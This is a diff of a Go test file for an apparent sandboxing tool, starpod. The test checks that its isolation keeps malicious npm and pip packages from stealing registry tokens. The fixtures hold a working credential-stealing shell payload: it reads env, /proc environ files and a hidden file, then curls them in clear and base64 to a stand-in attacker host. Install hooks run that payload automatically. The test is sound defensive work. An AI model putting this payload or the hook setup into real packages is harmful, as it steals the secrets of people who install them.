@@ -5,6 +5,7 @@ import (
 	"encoding/base64"
 	"encoding/json"
 	"os"
+	"os/exec"
 	"path/filepath"
 	"strings"
 	"testing"
@@ -12,57 +13,42 @@ import (
 	"github.com/starpod/caddy-starpod/internal/testbench"
 )
 
-// theft is what a package does when it is installed: it looks for secrets where they
-// usually are, and sends them home in clear and in base64.
-const theft = `{ env; cat /proc/[0-9]*/environ "$LOOT"; } >loot 2>/dev/null
+// theft is what a package does when it is installed: it sends its environment, and
+// the files in LOOT, home in clear and in base64.
+const theft = `{ env; cat $LOOT; } >loot 2>/dev/null
 	curl -q -sS --data-binary @loot https://` + evilName + `/clear; base64 loot | curl -q -sS --data-binary @- https://` + evilName + `/base64`
 
-// installs are the recipes of docs/recipes.md for packages that nobody trusts, from
-// a registry that wants a key.
+// installs are recipes of docs/recipes.md for packages that nobody trusts, from a
+// registry that wants a key. They are typed as they stand there.
 var installs = []struct {
-	name, script string
-	installed    string // what there is afterwards
+	recipe, registry, secret string
+	installed                string // what there is afterwards
 }{
-	{
-		name: "npm install", installed: "node_modules/demo/index.js",
-		script: `echo '//` + apiName + `/npm/:_authToken=${API_KEY}' >.npmrc; echo '{"name":"here","version":"1.0.0"}' >package.json
-			npm install --registry https://` + apiName + `/npm/ --no-audit --no-fund --no-update-notifier --loglevel=error --fetch-retries=0 --foreground-scripts demo`,
-	},
-	{
-		name: "pip install", installed: "installed/demo.py",
-		script: `printf 'machine ` + apiName + ` login token password %s\n' "$API_KEY" >.netrc; chmod 600 .netrc
-			/usr/bin/python3 -m pip -q install --disable-pip-version-check --no-cache-dir --retries 0 --no-deps --target installed --index-url https://` + apiName + `/simple/ demo`,
-	},
+	{"npm install", "registry.npmjs.org", "NPM_TOKEN", "node_modules/demo/index.js"},
+	{"pip install", "pypi.example.com", "PYPI_TOKEN", "packages/demo.py"},
 }
 
 // TestInstalls installs packages that steal. What they get home are tokens.
 func TestInstalls(t *testing.T) {
 	w := newWorld(t)
 	w.trustOnHost(t)
-	w.serveClients(t)
-	w.api.Handle("/npm/demo/-/demo-1.0.0.tgz", send(tarball(t, map[string]string{
-		"package/package.json": `{"name":"demo","version":"1.0.0","scripts":{"postinstall":"sh thief.sh"}}`,
-		"package/index.js":     "module.exports = 1\n", "package/thief.sh": theft,
-	})))
-	w.api.Handle("/simple/demo/{$}", page(`<a href="/simple/files/demo-1.0.0.tar.gz">demo-1.0.0.tar.gz</a>`))
-	w.api.Handle("/simple/files/demo-1.0.0.tar.gz", send(tarball(t, map[string]string{
-		"demo-1.0.0/PKG-INFO":       "Metadata-Version: 2.1\nName: demo\nVersion: 1.0.0\n",
-		"demo-1.0.0/pyproject.toml": "[build-system]\nrequires = []\nbuild-backend = \"thief\"\nbackend-path = [\".\"]\n",
-		"demo-1.0.0/thief.py":       pythonThief(t),
-	})))
+	w.serveThieves(t)
 	for _, install := range installs {
+		script := recipe(t, install.recipe)
+		shell(t, `echo "$1 $2" >>/run/hosts`, outside4, install.registry)
 		for _, isolation := range []string{"env", "sealed"} {
-			t.Run(install.name+", "+isolation, func(t *testing.T) {
+			t.Run(install.recipe+", "+isolation, func(t *testing.T) {
 				w.api.Forget()
-				dir, err := os.MkdirTemp(w.openDir, "")
-				if err != nil {
-					t.Fatal(err)
+				dir := w.typist(t, isolation)
+				cmd := exec.Command("setpriv", "--reuid="+ordinaryID, "--regid="+ordinaryID, "--clear-groups", "timeout", "60", "sh", "-ec", script)
+				cmd.Dir = dir
+				cmd.Env = []string{
+					"PATH=" + dir + ":/usr/bin:/bin", "HOME=" + dir, "TMPDIR=" + filepath.Join(w.dir, "tmp"), install.secret + "=" + canary,
+					"PIP_NO_DEPS=1", "PIP_NO_CACHE_DIR=1", "PIP_RETRIES=0", "npm_config_audit=false", "npm_config_fund=false",
+					"npm_config_update_notifier=false", "npm_config_fetch_retries=0", "npm_config_foreground_scripts=true",
 				}
-				shell(t, `chown `+ordinaryID+` "$1"`, dir)
-				cmd := w.run(t, true, []string{"--isolation", isolation, "--env-file", w.hiddenFile}, "timeout", "60", "sh", "-ec", install.script)
-				cmd.Dir, cmd.Env = dir, append(cmd.Env, "HOME="+dir)
-				if isolation == "sealed" { // where the file is hidden
-					cmd.Env = append(cmd.Env, "LOOT="+w.hiddenFile)
+				if isolation == "sealed" { // where these are out of reach
+					cmd.Env = append(cmd.Env, "LOOT=/proc/[0-9]*/environ "+w.hiddenFile)
 				}
 				out, err := cmd.CombinedOutput()
 				if err != nil {
@@ -71,14 +57,60 @@ func TestInstalls(t *testing.T) {
 				if _, err := os.Stat(filepath.Join(dir, install.installed)); err != nil {
 					t.Errorf("got no package: %v\n%s", err, out)
 				}
-				w.checkTheft(t, out)
+				w.checkTheft(t, install.secret, out)
 			})
 		}
 	}
 }
 
+// recipe is the block below a heading of docs/recipes.md.
+func recipe(t *testing.T, heading string) string {
+	t.Helper()
+	page, err := os.ReadFile("../../docs/recipes.md")
+	if err != nil {
+		t.Fatal(err)
+	}
+	_, text, _ := strings.Cut(string(page), "\n## "+heading+"\n")
+	_, text, found := strings.Cut(text, "```sh\n")
+	text, _, closed := strings.Cut(text, "```")
+	if !found || !closed {
+		t.Fatalf("the page has no block for %q", heading)
+	}
+	return text
+}
+
+// typist is a folder of the ordinary user with a caddy that isolates as told, and
+// hides the env file.
+func (w *world) typist(t *testing.T, isolation string) string {
+	t.Helper()
+	dir, err := os.MkdirTemp(w.openDir, "")
+	if err != nil {
+		t.Fatal(err)
+	}
+	shell(t, `printf '#!/bin/sh\nshift 2\nexec %s starpod run --isolation %s --env-file %s "$@"\n' "$2" "$3" "$4" >"$1/caddy"; chmod 755 "$1/caddy"
+		echo '{"name":"here","version":"1.0.0","dependencies":{"demo":"1.0.0"}}' >"$1/package.json"; chown -R `+ordinaryID+` "$1"`, dir, w.caddy, isolation, w.hiddenFile)
+	return dir
+}
+
+// serveThieves makes the internet's server both registries.
+func (w *world) serveThieves(t *testing.T) {
+	t.Helper()
+	w.api.Handle("registry.npmjs.org/demo", page(`{"name":"demo","dist-tags":{"latest":"1.0.0"},"versions":{"1.0.0":{"name":"demo","version":"1.0.0",
+		"hasInstallScript":true,"dist":{"tarball":"https://registry.npmjs.org/demo/-/demo-1.0.0.tgz"}}}}`))
+	w.api.Handle("registry.npmjs.org/demo/-/demo-1.0.0.tgz", send(tarball(t, map[string]string{
+		"package/package.json": `{"name":"demo","version":"1.0.0","scripts":{"postinstall":"sh thief.sh"}}`,
+		"package/index.js":     "module.exports = 1\n", "package/thief.sh": theft,
+	})))
+	w.api.Handle("pypi.example.com/simple/demo/", page(`<a href="/demo-1.0.0.tar.gz">demo-1.0.0.tar.gz</a>`))
+	w.api.Handle("pypi.example.com/demo-1.0.0.tar.gz", send(tarball(t, map[string]string{
+		"demo-1.0.0/PKG-INFO":       "Metadata-Version: 2.1\nName: demo\nVersion: 1.0.0\n",
+		"demo-1.0.0/pyproject.toml": "[build-system]\nrequires = []\nbuild-backend = \"thief\"\nbackend-path = [\".\"]\n",
+		"demo-1.0.0/thief.py":       pythonThief(t),
+	})))
+}
+
 // checkTheft wants the key at the registry, and only a token with the thief.
-func (w *world) checkTheft(t *testing.T, out []byte) {
+func (w *world) checkTheft(t *testing.T, secret string, out []byte) {
 	t.Helper()
 	var registry []*testbench.Request
 	home := make(map[string][]byte)
@@ -95,11 +127,11 @@ func (w *world) checkTheft(t *testing.T, out []byte) {
 	if saw := credentials(registry); !strings.Contains(saw, canary) {
 		t.Errorf("the registry got %q, want the key", saw)
 	}
-	if clear := home["/clear"]; !bytes.Contains(clear, []byte("API_KEY=\n")) {
+	if clear := home["/clear"]; !bytes.Contains(clear, []byte(secret+"=\n")) {
 		t.Errorf("in clear the thief got %q, want an empty key", clear)
 	}
 	loot, err := base64.StdEncoding.DecodeString(strings.ReplaceAll(string(home["/base64"]), "\n", ""))
-	if err != nil || !bytes.Contains(loot, []byte("API_KEY=starpod:v1:")) {
+	if err != nil || !bytes.Contains(loot, []byte(secret+"=starpod:v1:")) {
 		t.Errorf("in base64 the thief got %q (%v), want the token", loot, err)
 	}
 	if forms := testbench.FindSecret(append(out, loot...), canary); len(forms) > 0 {
